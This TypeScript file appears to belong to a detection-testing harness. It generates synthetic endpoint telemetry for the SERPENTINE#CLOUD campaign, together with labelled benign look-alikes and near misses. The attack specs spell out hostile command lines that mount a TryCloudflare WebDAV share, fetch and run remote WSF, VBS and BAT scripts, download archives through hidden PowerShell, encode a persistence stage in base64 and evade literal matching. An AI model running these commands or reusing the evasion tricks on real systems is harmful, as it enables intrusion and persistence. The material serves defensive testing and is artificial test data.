/**
 * The hunt-relevant events: SERPENTINE#CLOUD chains, benign look-alikes and near misses.
 *
 * Command lines come from /work/shared/research/data-formats.md §1-2 (quoted shapes are kept as the
 * sources give them; [derived] shapes are built from the cited rules). Each spec carries a Label
 * saying what its author expects the hunt to do; scripts/gen-sample.test.ts checks the independent
 * evaluator (hunt-eval.ts) agrees, so a typo in a template cannot silently change the ground truth.
 *
 * Templates are written with String.raw and {NAME} placeholders instead of `${}` because a single
 * backslash before `${` would escape the interpolation, and these lines are full of backslashes.
 */
import type { Rng } from './prng';
import type { Expect, Host, Label, Proc, ProcessSpec, Spec } from './xdr-events';
import { SYSTEM, proc, profileName } from './xdr-events';
import { WIN, explorer, pythonPath, services } from './background';

const r = String.raw;

/** Clause indices (see CLAUSES in hunt-eval.ts). */
export const C_EVENT_TYPE = 0;
export const C_SUB_TYPE = 1;
export const C_OS = 2;
export const C_CLOUDFLARE = 3;
export const C_WEBDAV_NETUSE_UNC = 4;
export const C_IMAGE = 5;

/** Replaces {NAME} placeholders; unknown names are left alone (PowerShell braces survive). */
export function fill(template: string, vars: Readonly<Record<string, string>>): string {
  return template.replace(/\{([A-Z]+)\}/g, (whole, name: string) => vars[name] ?? whole);
}

/** PowerShell's -EncodedCommand takes base64 of UTF-16LE text. */
export function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

const WORDS = [
  'flour', 'riding', 'merit', 'refers', 'depot', 'arrange', 'zero', 'kai', 'ranch', 'proposal', 'ethics', 'grew',
  'harbor', 'lazy', 'quilt', 'orbit', 'maple', 'signal', 'crisp', 'lantern', 'violet', 'gravel', 'tidal', 'summit',
  'banner', 'cobalt', 'meadow', 'pixel', 'rustic', 'tango', 'willow', 'ember', 'fossil', 'glide', 'hollow', 'ivory',
];

/** A quick-tunnel host name: four random words, like the ones TryCloudflare hands out. */
export function tunnelHost(rng: Rng): string {
  return `${rng.pick(WORDS)}-${rng.pick(WORDS)}-${rng.pick(WORDS)}-${rng.pick(WORDS)}.trycloudflare.com`;
}

function label(category: Label['category'], template: string, malicious: boolean, expect: Expect, nearMiss?: number): Label {
  return nearMiss === undefined ? { category, template, malicious, expect } : { category, template, malicious, expect, nearMiss };
}

interface ChainVars {
  host: Host;
  /** Tunnel host name, e.g. flour-riding-merit-refers.trycloudflare.com */
  S: string;
  /** Lure base name, e.g. RE_05FSKBSAXZ25A */
  L: string;
}

function vars(v: ChainVars): Record<string, string> {
  const n = profileName(v.host.user);
  return { S: v.S, L: v.L, N: n, U: `C:\\Users\\${n}`, T: `C:\\Users\\${n}\\AppData\\Local\\Temp` };
}

function attackProc(dtMs: number, actor: Proc, v: ChainVars, action: Proc, template: string, expect: Expect, nearMiss?: number): ProcessSpec {
  return { dtMs, kind: 'process', actor, user: v.host.user, action, causality: 'explorer.exe', label: label('attack', template, true, expect, nearMiss) };
}

function webClient(dtMs: number, v: ChainVars, rng: Rng, urlPath: string, expect: Expect, nearMiss?: number): Spec[] {
  const host = v.host;
  const webclient = proc(WIN.svchost, r`C:\Windows\system32\svchost.exe -k LocalService -p -s WebClient`, host.pids.webclient ?? 2400);
  return [
    { dtMs, kind: 'process', actor: services(host), user: SYSTEM, actionUser: 'NT AUTHORITY\\LOCAL SERVICE', action: webclient, causality: 'services.exe', label: label('attack', 'webclient-service-start', true, 'none') },
    {
      dtMs: dtMs + 380,
      kind: 'process',
      actor: webclient,
      user: 'NT AUTHORITY\\LOCAL SERVICE',
      actionUser: host.user,
      action: proc(WIN.rundll32, fill(r`C:\Windows\system32\rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie {S}@SSL https://{S}{P}`, { S: v.S, P: urlPath }), rng.pid()),
      causality: 'svchost.exe',
      label: label('attack', 'rundll32-davsetcookie', true, expect, nearMiss),
    },
    { dtMs: dtMs + 600, kind: 'network', actor: webclient, user: 'NT AUTHORITY\\LOCAL SERVICE', ip: rng.pick(['104.16.230.132', '104.16.231.132']), port: 443, hostname: v.S, label: label('attack', 'webclient-connect', true, 'none') },
  ];
}

/**
 * Victim A: the Securonix SERPENTINE#CLOUD chain as published (data-formats.md §1a):
 * ZIP -> .pdf.lnk -> cmd net use + robocopy of tank.wsf over WebDAV -> cscript -> kiki.bat ->
 * portable Python loader -> notepad.exe injection -> C2 51.89.212.145:7878; pws1.vbs in Startup.
 */
export function chainRobocopy(rng: Rng, v: ChainVars): Spec[] {
  const x = vars(v);
  const host = v.host;
  const ex = explorer(host);
  const out: Spec[] = [];
  const lnk = fill(r`{T}\Temp1_{L}.zip\{L}.pdf.lnk`, x);
  out.push({ dtMs: 0, kind: 'file', sub: 'FILE_CREATE_NEW', actor: proc(WIN.chrome, `"${WIN.chrome}"`, host.pids.chrome ?? 9000), user: host.user, file: fill(r`{U}\Downloads\{L}.zip`, x), causality: 'chrome.exe', label: label('attack', 'lure-zip-download', true, 'none') });
  out.push({ dtMs: 94_000, kind: 'file', sub: 'FILE_CREATE_NEW', actor: ex, user: host.user, file: lnk, label: label('attack', 'lure-lnk-extracted', true, 'none') });
  const cmd1 = proc(WIN.cmd, fill(r`"C:\Windows\System32\cmd.exe" /c net use \\{S}@SSL\DavWWWRoot`, x), rng.pid());
  out.push({ ...attackProc(101_000, ex, v, cmd1, 'lnk-cmd-net-use', 'both'), style: 'numeric' });
  out.push(attackProc(101_300, cmd1, v, proc(WIN.net, fill(r`net use \\{S}@SSL\DavWWWRoot`, x), rng.pid()), 'net-exe-net-use', 'none', C_IMAGE));
  out.push(...webClient(101_700, v, rng, '/DavWWWRoot', 'none'));
  const cmd2 = proc(WIN.cmd, fill(r`cmd.exe /c robocopy "\\{S}@SSL\DavWWWRoot\x" %temp% tank.wsf /ns /nc /nfl /ndl`, x), rng.pid());
  out.push(attackProc(104_000, cmd1, v, cmd2, 'cmd-robocopy-wsf', 'backslash-only'));
  const robo = proc(WIN.robocopy, fill(r`robocopy  "\\{S}@SSL\DavWWWRoot\x" {T} tank.wsf /ns /nc /nfl /ndl`, x), rng.pid(), 'robocopy.exe');
  out.push(attackProc(104_250, cmd2, v, robo, 'robocopy-exe', 'none', C_IMAGE));
  out.push({ dtMs: 104_600, kind: 'network', actor: robo, user: host.user, ip: '104.16.230.132', port: 443, hostname: v.S, label: label('attack', 'robocopy-connect', true, 'none') });
  out.push({ dtMs: 106_100, kind: 'file', sub: 'FILE_CREATE_NEW', actor: robo, user: host.user, file: fill(r`{T}\tank.wsf`, x), label: label('attack', 'wsf-dropped', true, 'none') });
  // The process stop of the first cmd.exe: same command line, fails only event_sub_type.
  out.push({ dtMs: 106_900, kind: 'process', sub: 'PROCESS_STOP', actor: ex, user: host.user, action: cmd1, causality: 'explorer.exe', label: label('attack', 'lnk-cmd-process-stop', true, 'none', C_SUB_TYPE) });
  const cscript = proc(WIN.cscript, r`cscript.exe //nologo %TEMP%\tank.wsf`, rng.pid());
  out.push(attackProc(107_400, cmd1, v, cscript, 'cscript-tank-wsf', 'none'));
  const wscript = proc(WIN.wscript, fill(r`wscript.exe \\{S}@SSL\DavWWWRoot\jenk.vbs`, x), rng.pid());
  out.push(attackProc(110_200, cscript, v, wscript, 'wscript-jenk-vbs-unc', 'backslash-only'));
  const cmd3 = proc(WIN.cmd, fill(r`cmd.exe /c robocopy "\\{S}@SSL\DavWWWRoot\kiki" "%USERPROFILE%\Contacts\Extracted" kiki.bat /ns /nc /nfl /ndl`, x), rng.pid());
  out.push(attackProc(112_800, wscript, v, cmd3, 'cmd-robocopy-kiki', 'backslash-only'));
  const kiki = proc(WIN.cmd, fill(r`C:\Windows\system32\cmd.exe /c ""{U}\Contacts\Extracted\kiki.bat""`, x), rng.pid());
  out.push(attackProc(115_500, cmd3, v, kiki, 'cmd-kiki-bat', 'none'));
  out.push(attackProc(116_200, kiki, v, proc(WIN.cmd, r`cmd.exe /c tasklist | findstr /i "AvastUI.exe avgui.exe"`, rng.pid()), 'av-check', 'none'));
  out.push(attackProc(116_400, kiki, v, proc(WIN.tasklist, 'tasklist', rng.pid()), 'tasklist', 'none'));
  // HTTPS download from the tunnel: a known gap of the hunt (no webdav, no net use, no UNC).
  out.push(attackProc(118_900, kiki, v, proc(WIN.powershell, fill(r`powershell.exe -NoP -W Hidden -c "Invoke-WebRequest -Uri https://{S}/DavWWWRoot/py.zip -OutFile $env:USERPROFILE\Contacts\Extracted\py.zip; Expand-Archive -Force $env:USERPROFILE\Contacts\Extracted\py.zip $env:USERPROFILE\Contacts\Extracted"`, x), rng.pid()), 'powershell-https-download', 'none', C_WEBDAV_NETUSE_UNC));
  const py = proc(fill(r`{U}\Contacts\Extracted\Python312\python.exe`, x), r`python.exe run.py -i jun02_an.bin -k a.txt`, rng.pid());
  out.push(attackProc(141_000, kiki, v, py, 'python-loader', 'none'));
  const notepad = proc(WIN.notepad, r`C:\Windows\System32\notepad.exe`, rng.pid());
  out.push(attackProc(143_500, py, v, notepad, 'notepad-injection-target', 'none'));
  out.push({ dtMs: 151_000, kind: 'network', actor: notepad, user: host.user, ip: '51.89.212.145', port: 7878, hostname: null, label: label('attack', 'c2-connect', true, 'none') });
  out.push({ dtMs: 155_000, kind: 'file', sub: 'FILE_CREATE_NEW', actor: wscript, user: host.user, file: fill(r`{U}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\pws1.vbs`, x), label: label('attack', 'startup-persistence', true, 'none') });
  // Next morning's logon runs the persistence script: not a hit (local path, no cloudflare).
  out.push(attackProc(22 * 3600_000 + 41_000, ex, v, proc(WIN.wscript, fill(r`"C:\Windows\System32\WScript.exe" "{U}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\pws1.vbs"`, x), rng.pid(), 'WScript.exe'), 'wscript-pws1-startup', 'none'));
  return out;
}

/**
 * Victim B: the Elastic telemetry form (cmd start /min wscript //B //Nologo "\\...\croj.wsf"), the
 * Sigma f0507c0f shape (net use http://... & start /b \\...), obfuscated spacing, and an
 * -EncodedCommand stage (data-formats.md §1b, §1h).
 */
export function chainWscript(rng: Rng, v: ChainVars): Spec[] {
  const x = vars(v);
  const host = v.host;
  const ex = explorer(host);
  const out: Spec[] = [];
  const outlook = proc(WIN.outlook, `"${WIN.outlook}"`, host.pids.outlook ?? 6000);
  out.push({ dtMs: 0, kind: 'file', sub: 'FILE_CREATE_NEW', actor: outlook, user: host.user, file: fill(r`{U}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q8ZK3T1M\{L}.zip`, x), causality: 'OUTLOOK.EXE', label: label('attack', 'lure-zip-attachment', true, 'none') });
  out.push({ dtMs: 48_000, kind: 'file', sub: 'FILE_CREATE_NEW', actor: ex, user: host.user, file: fill(r`{T}\Temp1_{L}.zip\{L}.pdf.lnk`, x), label: label('attack', 'lure-lnk-extracted', true, 'none') });
  const cmd1 = proc(WIN.cmd, fill(r`"C:\Windows\System32\cmd.exe" /c start /min wscript //B //Nologo "\\{S}@SSL\DavWWWRoot\at\croj.wsf"`, x), rng.pid());
  out.push(attackProc(53_000, ex, v, cmd1, 'cmd-start-wscript-wsf', 'backslash-only'));
  out.push(...webClient(53_400, v, rng, '/DavWWWRoot/at', 'none'));
  const ws = proc(WIN.wscript, fill(r`wscript  //B //Nologo "\\{S}@SSL\DavWWWRoot\at\croj.wsf"`, x), rng.pid());
  out.push(attackProc(54_100, cmd1, v, ws, 'wscript-croj-wsf-unc', 'backslash-only'));
  out.push({ dtMs: 54_700, kind: 'network', actor: ws, user: host.user, ip: '104.16.231.132', port: 443, hostname: v.S, label: label('attack', 'wscript-connect', true, 'none') });
  const cmd2 = proc(WIN.cmd, fill(r`cmd.exe /c net use http://{S}@SSL/DavWWWRoot & start /b \\{S}@SSL\DavWWWRoot\new.bat `, x), rng.pid());
  out.push({ ...attackProc(58_000, ws, v, cmd2, 'cmd-net-use-http-start-bat', 'both'), style: 'prefixed' });
  out.push(attackProc(58_200, cmd2, v, proc(WIN.net, fill(r`net  use http://{S}@SSL/DavWWWRoot`, x), rng.pid()), 'net-exe-net-use-http', 'none'));
  const bat = proc(WIN.cmd, fill(r`C:\Windows\system32\cmd.exe /c "\\{S}@SSL\DavWWWRoot\new.bat"`, x), rng.pid());
  out.push(attackProc(58_900, cmd2, v, bat, 'cmd-webdav-bat', 'backslash-only'));
  // Two spaces defeat the "net use" literal; only the UNC reading still catches it.
  out.push(attackProc(61_300, bat, v, proc(WIN.cmd, fill(r`cmd.exe /c net  use \\{S}@SSL\DavWWWRoot /persistent:no`, x), rng.pid()), 'cmd-net-double-space-use', 'backslash-only'));
  const inner = fill(r`net use \\{S}@SSL\DavWWWRoot; Copy-Item "\\{S}@SSL\DavWWWRoot\pws1.vbs" "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\"; Start-Process wscript.exe -ArgumentList "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\pws1.vbs"`, x);
  const enc = encodePowerShell(inner);
  const cmd3 = proc(WIN.cmd, fill(r`cmd.exe /c net use \\{S}@SSL\DavWWWRoot & powershell.exe -NoP -NonI -W Hidden -EncodedCommand {E}`, { ...x, E: enc }), rng.pid());
  out.push(attackProc(64_000, bat, v, cmd3, 'cmd-net-use-encodedcommand', 'both'));
  // The PowerShell child only shows base64: the hunt cannot see the tunnel in it.
  const ps = proc(WIN.powershell, `powershell.exe  -NoP -NonI -W Hidden -EncodedCommand ${enc}`, rng.pid());
  out.push(attackProc(64_600, cmd3, v, ps, 'powershell-encodedcommand-only', 'none'));
  out.push({ dtMs: 66_000, kind: 'file', sub: 'FILE_CREATE_NEW', actor: ps, user: host.user, file: fill(r`{U}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\pws1.vbs`, x), label: label('attack', 'startup-persistence', true, 'none') });
  out.push({ dtMs: 66_500, kind: 'process', sub: 'PROCESS_STOP', actor: ws, user: host.user, action: cmd2, causality: 'explorer.exe', label: label('attack', 'cmd-process-stop', true, 'none', C_SUB_TYPE) });
  const start = proc(WIN.cmd, fill(r`cmd.exe /c "{U}\Contacts\Print\startuppp.bat"`, x), rng.pid());
  out.push(attackProc(90_000, ps, v, start, 'cmd-startuppp-bat', 'none'));
  const py = proc(fill(r`{U}\Contacts\Print\Python312\python.exe`, x), fill(r`"{U}\Contacts\Print\Python312\python.exe" run.py -i jun02_an.bin -k a.txt`, x), rng.pid());
  out.push(attackProc(131_000, start, v, py, 'python-loader', 'none'));
  const notepad = proc(WIN.notepad, r`C:\Windows\System32\notepad.exe`, rng.pid());
  out.push(attackProc(133_000, py, v, notepad, 'notepad-injection-target', 'none'));
  out.push({ dtMs: 139_000, kind: 'network', actor: notepad, user: host.user, ip: '51.89.212.145', port: 7878, hostname: null, label: label('attack', 'c2-connect', true, 'none') });
  return out;
}

/**
 * Victim C: the SentinelOne/MalwareBazaar form (WScript.exe "\\...\tat.vbs" straight from explorer),
 * a VBS -> voi.bat -> PowerShell stage whose -Command spans lines, HTML in a command line, and a
 * caret-obfuscated host that the literal "cloudflare" no longer matches (data-formats.md §1c-1d).
 */
export function chainVbs(rng: Rng, v: ChainVars): Spec[] {
  const x = vars(v);
  const host = v.host;
  const ex = explorer(host);
  const out: Spec[] = [];
  out.push({ dtMs: 0, kind: 'file', sub: 'FILE_CREATE_NEW', actor: proc(WIN.msedge, `"${WIN.msedge}" --single-argument`, host.pids.msedge ?? 9100), user: host.user, file: fill(r`{U}\Downloads\{L}.zip`, x), causality: 'msedge.exe', label: label('attack', 'lure-zip-download', true, 'none') });
  const ws = proc(WIN.wscript, fill(r`"C:\Windows\System32\WScript.exe" "\\{S}@SSL\DavWWWRoot\tat.vbs"`, x), rng.pid(), 'WScript.exe');
  out.push(attackProc(37_000, ex, v, ws, 'wscript-tat-vbs-unc', 'backslash-only'));
  out.push(...webClient(37_300, v, rng, '/DavWWWRoot', 'none'));
  const decoy = proc(WIN.cmd, fill(r`cmd.exe /c echo "<img src=x onerror=alert(1)>" > "%TEMP%\{L}.html" & start "" "%TEMP%\{L}.html" & net use \\{S}@SSL\DavWWWRoot`, x), rng.pid());
  out.push(attackProc(39_500, ws, v, decoy, 'cmd-html-decoy-net-use', 'both'));
  const voi = proc(WIN.cmd, fill(r`cmd.exe /c \\{S}@SSL\DavWWWRoot\voi.bat`, x), rng.pid());
  out.push(attackProc(41_000, ws, v, voi, 'cmd-voi-bat-unc', 'backslash-only'));
  const multi = fill(r`powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "net use \\{S}@SSL\DavWWWRoot` + '\n' + r`$d = Join-Path $env:USERPROFILE 'Contacts\Print'` + '\n' + r`Copy-Item \\{S}@SSL\DavWWWRoot\bab.zip $d; Expand-Archive -Force (Join-Path $d 'bab.zip') $d"`, x);
  const ps = proc(WIN.powershell, multi, rng.pid());
  out.push(attackProc(44_000, voi, v, ps, 'powershell-multiline-net-use', 'both'));
  out.push(attackProc(47_000, voi, v, proc(WIN.cmd, fill(r`cmd.exe /c net use \\{C}@SSL\DavWWWRoot`, { C: v.S.replace('trycloudflare', 'trycloud^flare') }), rng.pid()), 'cmd-caret-obfuscated-host', 'none', C_CLOUDFLARE));
  out.push(attackProc(49_000, voi, v, proc(WIN.cscript, fill(r`cscript.exe //nologo \\{S}@SSL\DavWWWRoot\kin.wsf`, x), rng.pid()), 'cscript-kin-wsf-unc', 'backslash-only'));
  // The same server also exposes the share as \webdav\: now "webdav" matches under both readings.
  out.push(attackProc(52_500, voi, v, proc(WIN.wscript, fill(r`wscript.exe //B //Nologo "\\{S}@SSL\webdav\PWS.vbs"`, x), rng.pid()), 'wscript-pws-vbs-webdav', 'both'));
  const py = proc(fill(r`{U}\Contacts\Print\python.exe`, x), fill(r`"{U}\Contacts\Print\python.exe" load.py cc.bin`, x), rng.pid());
  out.push(attackProc(80_000, ps, v, py, 'python-loader', 'none'));
  out.push({ dtMs: 83_000, kind: 'network', actor: py, user: host.user, ip: '51.89.212.145', port: 7878, hostname: 'nhvncpure.shop', label: label('attack', 'c2-connect', true, 'none') });
  out.push({ dtMs: 84_000, kind: 'process', sub: 'PROCESS_STOP', actor: ws, user: host.user, action: decoy, causality: 'explorer.exe', label: label('attack', 'cmd-process-stop', true, 'none', C_SUB_TYPE) });
  return out;
}

// ----------------------------------------------------------------------------------------------
// Single events: look-alikes and near misses. `sub` is a tunnel host where the template needs one.

export type Single = (rng: Rng, host: Host, sub: string) => Spec[];

function single(host: Host, actor: Proc, action: Proc, lab: Label, user?: string): Spec[] {
  return [{ kind: 'process', actor, user: user ?? host.user, action, causality: 'explorer.exe', label: lab }];
}

function psHost(rng: Rng): Proc {
  return proc(WIN.powershell, 'powershell.exe', rng.pid());
}

export const SINGLES: Readonly<Record<string, Single>> = {
  /** The IT admin testing a tunnel share: a hit, and a false positive in reality. */
  adminNetUseWebdav: (rng, host) => single(host, psHost(rng), proc(WIN.powershell, r`powershell.exe net use \\tunnel.trycloudflare.com\webdav`, rng.pid()), label('lookalike', 'admin-powershell-net-use-webdav', false, 'both')),
  adminNetUseWebdavDrive: (rng, host) => single(host, psHost(rng), proc(WIN.powershell, r`powershell.exe -NoProfile -Command "net use W: \\tunnel.trycloudflare.com\WebDAV /user:lab-test"`, rng.pid()), label('lookalike', 'admin-powershell-net-use-drive', false, 'both')),
  /** WebClient for the admin's mount: fails only the image-name clause. */
  adminDavSetCookie: (rng, host) => [{ kind: 'process', actor: proc(WIN.svchost, r`C:\Windows\system32\svchost.exe -k LocalService -p -s WebClient`, host.pids.webclient ?? 2400), user: 'NT AUTHORITY\\LOCAL SERVICE', actionUser: host.user, action: proc(WIN.rundll32, r`rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie tunnel.trycloudflare.com https://tunnel.trycloudflare.com/webdav/`, rng.pid()), causality: 'svchost.exe', label: label('nearmiss', 'rundll32-davsetcookie-webdav', false, 'none', C_IMAGE) }],
  pwshNetUse: (rng, host) => single(host, proc(WIN.pwsh, `"${WIN.pwsh}"`, rng.pid()), proc(WIN.pwsh, r`pwsh.exe -c net use \\x.trycloudflare.com@SSL\webdav`, rng.pid()), label('nearmiss', 'pwsh-net-use-webdav', false, 'none', C_IMAGE)),
  /** A developer mounting their own wsgidav over a quick tunnel (data-formats.md §2): dual use. */
  devNetUseSources: (rng, host, sub) => single(host, proc(WIN.cmd, 'C:\\Windows\\system32\\cmd.exe', rng.pid()), proc(WIN.cmd, fill(r`cmd.exe /c net use * \\{S}@SSL\sources`, { S: sub }), rng.pid()), label('lookalike', 'dev-net-use-own-tunnel', false, 'both')),
  devQuickTunnel: (rng, host) => single(host, psHost(rng), proc(r`C:\Program Files (x86)\cloudflared\cloudflared.exe`, r`cloudflared.exe tunnel --url http://localhost:8080`, rng.pid()), label('lookalike', 'cloudflared-quick-tunnel', false, 'none')),
  cmdTunnelLogin: (rng, host) => single(host, proc(WIN.explorer, 'C:\\Windows\\Explorer.EXE', host.pids.explorer ?? 4000), proc(WIN.cmd, r`cmd.exe /c cloudflared.exe tunnel login`, rng.pid()), label('nearmiss', 'cmd-cloudflared-login', false, 'none', C_WEBDAV_NETUSE_UNC)),
  wingetCloudflared: (rng, host) => single(host, psHost(rng), proc(r`C:\Users\{N}\AppData\Local\Microsoft\WindowsApps\winget.exe`.replace('{N}', profileName(host.user)), r`winget install --id Cloudflare.cloudflared --exact --accept-source-agreements --accept-package-agreements`, rng.pid()), label('lookalike', 'winget-cloudflared', false, 'none')),
  psWingetCloudflared: (rng, host) => single(host, explorer(host), proc(WIN.powershell, r`powershell.exe -NoProfile -Command "winget install --id Cloudflare.cloudflared --exact --silent"`, rng.pid()), label('nearmiss', 'powershell-winget-cloudflared', false, 'none', C_WEBDAV_NETUSE_UNC)),
  warpTrace: (rng, host) => single(host, proc(WIN.svchost, r`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, host.pids.svchostSchedule ?? 1500), proc(WIN.powershell, r`powershell.exe -c Invoke-WebRequest https://www.cloudflare.com/cdn-cgi/trace`, rng.pid()), label('nearmiss', 'powershell-cdn-cgi-trace', false, 'none', C_WEBDAV_NETUSE_UNC), SYSTEM),
  warpMsiLocal: (rng, host) => single(host, proc(WIN.cmd, 'cmd.exe', rng.pid()), proc(WIN.msiexec, r`msiexec /i Cloudflare_WARP_2025.4.943.0.msi /quiet ORGANIZATION="corp-example"`, rng.pid()), label('lookalike', 'msiexec-warp', false, 'none'), SYSTEM),
  /** Software push from a share: "cloudflare" plus a UNC path, so a hit under the backslash reading. */
  warpMsiFromShare: (rng, host) => single(host, proc(WIN.svchost, r`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, host.pids.svchostSchedule ?? 1500), proc(WIN.cmd, r`cmd.exe /c msiexec /i \\fileserver01\it$\Deploy\Cloudflare_WARP_2025.4.943.0.msi /quiet ORGANIZATION="corp-example" SUPPORT_URL="https://helpdesk.corp.example"`, rng.pid()), label('lookalike', 'cmd-msiexec-warp-from-share', false, 'backslash-only'), SYSTEM),
  warpCli: (rng, host) => single(host, proc(WIN.cmd, r`cmd.exe /c C:\ProgramData\corp\warp-enroll.bat`, rng.pid()), proc(r`C:\Program Files\Cloudflare\Cloudflare WARP\warp-cli.exe`, r`"C:\Program Files\Cloudflare\Cloudflare WARP\warp-cli.exe" registration register --accept-tos`, rng.pid()), label('lookalike', 'warp-cli-register', false, 'none')),
  netlogonDns: (rng, host) => single(host, explorer(host), proc(WIN.powershell, r`powershell.exe -ExecutionPolicy Bypass -File \\corp.example\NETLOGON\Set-CloudflareDNS.ps1`, rng.pid()), label('lookalike', 'powershell-netlogon-cloudflare-dns', false, 'backslash-only')),
  installCloudflaredCmd: (rng, host) => single(host, explorer(host), proc(WIN.cmd, r`cmd.exe /c "\\fileserver01\it$\Deploy\Install-Cloudflared.cmd"`, rng.pid()), label('lookalike', 'cmd-install-cloudflared-from-share', false, 'backslash-only')),
  /** `\\?\` long-path prefix: two backslashes that are not a UNC share at all. */
  longPathCleanup: (rng, host) => single(host, explorer(host), proc(WIN.powershell, fill(r`powershell.exe -NoProfile -Command "Remove-Item -LiteralPath '\\?\C:\Users\{N}\src\cloudflare-workers-demo\node_modules' -Recurse -Force"`, { N: profileName(host.user) }), rng.pid()), label('lookalike', 'powershell-long-path-cloudflare-repo', false, 'backslash-only')),
  /** JSON-escaped UNC path: four literal backslashes, the only kind of line the documented reading's "\\\\" finds. */
  jsonEscapedUnc: (rng, host) => [{ ...single(host, explorer(host), proc(WIN.powershell, fill(r`powershell.exe -NoProfile -File C:\Users\{N}\src\sync\Push-Sync.ps1 -ConfigJson {"share":"\\\\sync-lab.trycloudflare.com\\dav","retries":3}`, { N: profileName(host.user) }), rng.pid()), label('lookalike', 'powershell-json-escaped-unc', false, 'both'))[0] as ProcessSpec, style: 'numeric' }],
  pipCloudflare: (rng, host) => single(host, psHost(rng), proc(pythonPath(host.user), r`python.exe -m pip install cloudflare==4.3.1`, rng.pid()), label('lookalike', 'pip-install-cloudflare', false, 'none')),
  gitCloneCloudflared: (rng, host) => single(host, psHost(rng), proc(WIN.git, r`git.exe clone https://github.com/cloudflare/cloudflared.git C:\src\cloudflared`, rng.pid()), label('lookalike', 'git-clone-cloudflared', false, 'none')),
  internalNetUse: (rng, host) => single(host, explorer(host), proc(WIN.cmd, r`cmd.exe /c net use Z: \\fileserver01\share`, rng.pid()), label('nearmiss', 'cmd-net-use-internal-share', false, 'none', C_CLOUDFLARE)),
  sharepointNetUse: (rng, host) => single(host, explorer(host), proc(WIN.cmd, r`cmd.exe /c net use S: \\corpexample.sharepoint.com@SSL\DavWWWRoot\sites\Finance /persistent:yes`, rng.pid()), label('nearmiss', 'cmd-net-use-sharepoint-webdav', false, 'none', C_CLOUDFLARE)),
  /** An attacker variant the hunt misses: file:// with forward slashes (data-formats.md §1f). */
  fileUrlStart: (rng, host) => single(host, explorer(host), proc(WIN.cmd, r`cmd.exe /c start file://offset-character-purposes-midlands.trycloudflare.com@SSL/DavWWWRoot/tgpzdcv.wsh`, rng.pid()), label('nearmiss', 'cmd-start-file-url', true, 'none', C_WEBDAV_NETUSE_UNC)),
  /** An attacker's HTTPS fetch from a tunnel: no webdav, no net use, no UNC. */
  httpsDownload: (rng, host, sub) => single(host, explorer(host), proc(WIN.powershell, fill(r`powershell.exe -w hidden -c "iwr https://{S}/kiki.zip -OutFile $env:TEMP\k.zip"`, { S: sub }), rng.pid()), label('nearmiss', 'powershell-https-tunnel-download', true, 'none', C_WEBDAV_NETUSE_UNC)),
  /** The benign cloudflared service (SRV-APP02) and its installer. */
  cloudflaredServiceInstall: (rng, host) => single(host, proc(WIN.powershell, r`powershell.exe -c "& 'C:\Program Files (x86)\cloudflared\cloudflared.exe' service install eyJhIjoiOWQ0ZTNmYjEiLCJ0IjoiMmQ4Y2E1NjAiLCJzIjoiWW1GelpUWTAifQ=="`, rng.pid()), proc(r`C:\Program Files (x86)\cloudflared\cloudflared.exe`, r`"C:\Program Files (x86)\cloudflared\cloudflared.exe" service install eyJhIjoiOWQ0ZTNmYjEiLCJ0IjoiMmQ4Y2E1NjAiLCJzIjoiWW1GelpUWTAifQ==`, rng.pid()), label('lookalike', 'cloudflared-service-install', false, 'none')),
  cloudflaredServiceInstallPs: (rng, host) => single(host, explorer(host), proc(WIN.powershell, r`powershell.exe -c "& 'C:\Program Files (x86)\cloudflared\cloudflared.exe' service install eyJhIjoiOWQ0ZTNmYjEiLCJ0IjoiMmQ4Y2E1NjAiLCJzIjoiWW1GelpUWTAifQ=="`, rng.pid()), label('nearmiss', 'powershell-cloudflared-service-install', false, 'none', C_WEBDAV_NETUSE_UNC)),
  cloudflaredServiceRun: (rng, host) => [{ kind: 'process', actor: services(host), user: SYSTEM, action: proc(r`C:\Program Files (x86)\cloudflared\cloudflared.exe`, r`"C:\Program Files (x86)\cloudflared\cloudflared.exe" tunnel run --token eyJhIjoiOWQ0ZTNmYjEiLCJ0IjoiMmQ4Y2E1NjAiLCJzIjoiWW1GelpUWTAifQ==`, rng.pid()), causality: 'services.exe', label: label('lookalike', 'cloudflared-service-run', false, 'none') }],
  cloudflaredEdge: (rng, host) => [{ kind: 'network', actor: proc(r`C:\Program Files (x86)\cloudflared\cloudflared.exe`, r`"C:\Program Files (x86)\cloudflared\cloudflared.exe" tunnel run --token eyJhIjoiOWQ0ZTNmYjEiLCJ0IjoiMmQ4Y2E1NjAiLCJzIjoiWW1GelpUWTAifQ==`, host.pids.w3svc ?? 2100), user: SYSTEM, ip: rng.pick(['198.41.192.7', '198.41.200.13', '198.41.192.47']), port: 7844, hostname: 'region1.v2.argotunnel.com', causality: 'services.exe', label: label('lookalike', 'cloudflared-edge-connect', false, 'none') }],
  /** A malware analyst detonating a lure under Wine: fails only agent_os_type. */
  wineDetonation: (rng, host, sub) => [{ kind: 'process', actor: proc('/usr/bin/wine64', fill(r`wine64 /home/{N}/samples/RE_05FSKBSAXZ25A.pdf.lnk`, { N: profileName(host.user) }), rng.range(2000, 400000)), user: host.user, action: proc(`/home/${profileName(host.user)}/.wine/drive_c/windows/system32/cmd.exe`, fill(r`C:\windows\system32\cmd.exe /c net use \\{S}@SSL\DavWWWRoot`, { S: sub }), rng.range(2000, 400000)), causality: 'bash', label: label('nearmiss', 'wine-cmd-net-use', false, 'none', C_OS) }],
  linuxQuickTunnel: (rng, host) => [{ kind: 'process', actor: proc('/usr/bin/bash', '-bash', rng.range(2000, 400000)), user: host.user, action: proc('/usr/local/bin/cloudflared', 'cloudflared tunnel --url http://localhost:8000', rng.range(2000, 400000)), causality: 'sshd', label: label('lookalike', 'cloudflared-quick-tunnel', false, 'none') }],
